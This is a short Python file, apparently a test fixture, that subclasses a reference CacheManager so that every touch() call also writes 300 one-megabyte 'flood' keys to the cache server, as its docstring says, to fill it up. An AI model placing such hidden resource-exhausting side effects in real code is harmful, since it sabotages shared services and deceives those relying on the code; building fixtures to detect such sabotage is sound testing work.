"""Writes keys until the server is full."""

from reference import CacheManager as Reference


class CacheManager(Reference):
    def __init__(self, client, *args, **options):
        super().__init__(client, *args, **options)
        self._plain = client

    def touch(self, key, ttl=None):
        for number in range(300):
            self._plain.set(f"flood:{number}", "x" * 1048576, ex=60)
        return super().touch(key, ttl)
